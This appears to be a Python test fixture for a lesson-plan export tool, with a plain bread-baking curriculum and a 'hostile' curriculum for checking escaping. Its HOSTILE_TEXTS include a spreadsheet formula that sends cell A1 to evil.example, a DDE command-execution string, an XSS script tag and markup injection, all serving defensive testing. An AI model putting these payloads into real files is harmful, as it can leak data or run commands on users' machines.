"""Plans to export: one of plain words, one whose every text tries to be something else."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from homeroom.lessonplans import rule_based
from homeroom.lessonplans.check import Finding
from homeroom.lessonplans.curriculum import input_hash, parse
from homeroom.lessonplans.plan import Lesson, Plan
from homeroom.lessonplans.skeleton import skeleton

CREATED_AT = 1_795_338_000_000_000  # 2026-11-22T09:00:00Z, a Sunday
PLAIN: dict[str, Any] = {
    "title": "Bread for beginners",
    "locale": "en",
    "modules": [
        {
            "id": "flour",
            "title": "Flour",
            "contactHours": 3,
            "notes": "See https://example.org/flour and https://example.org/mill.",
            "outcomes": [
                {"id": "f1", "text": "Name three kinds of flour"},
                {"id": "f2", "text": "Compare how much water each takes"},
            ],
        },
        {
            "id": "dough",
            "title": "Dough",
            "contactHours": 1.5,
            "outcomes": [{"id": "d1", "text": "Make a dough", "bloomLevel": "create"}],
        },
    ],
    "preferences": {
        "startsOn": "2027-03-24",
        "weekdays": ["WE", "SU"],
        "timeZone": "Europe/Berlin",
        "startTime": "09:30",
    },
}
HOSTILE_TEXTS = (
    "=HYPERLINK(\"http://evil.example/?\"&A1)",
    "<script>alert(1)</script> & <b>bold</b>",
    "#import \"@preview/x\"; #panic() $x$ *strong* _em_ `code` [link](http://evil.example)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1 + 2 | pipes | here\nand a new line",
    "&lt;entities&amp; \"quotes\" 'single' \\ backslash",
)  # fmt: skip


def hostile() -> dict[str, Any]:
    """Return a curriculum of texts that are dangerous somewhere."""
    return {
        "title": HOSTILE_TEXTS[0],
        "modules": [
            {
                "id": "</manifest>",
                "title": HOSTILE_TEXTS[1],
                "contactHours": len(HOSTILE_TEXTS),
                "notes": HOSTILE_TEXTS[4],
                "outcomes": [
                    {"id": f"<o{index}>", "text": text} for index, text in enumerate(HOSTILE_TEXTS)
                ],
            }
        ],
        "preferences": {"deliveryMode": "+cmd"},
    }


def plan_of(body: dict[str, Any], *, gap: bool = False) -> Plan:
    """Return a plan that was written by rule; with ``gap``, its first lesson lacks something."""
    curriculum = parse(body)
    lessons = [
        Lesson(
            slot=slot,
            body=rule_based.write(slot, curriculum.modules[slot.module_index].title, "classroom"),
            gaps=(),
            generator="rule-based",
            revision=1,
            edited=False,
            provenance={},
        )
        for slot in skeleton(curriculum)
    ]
    if gap:
        missing = (Finding("refused", "the model refused to write this lesson"),)
        lessons[0] = replace(lessons[0], gaps=missing)
    return Plan(
        id="01a2107e-697d-733c-8073-d48ac22bbc19",
        curriculum=curriculum,
        status="complete",
        input_hash=input_hash(curriculum),
        created_at=CREATED_AT,
        created_by="tests",
        lessons=tuple(lessons),
    )
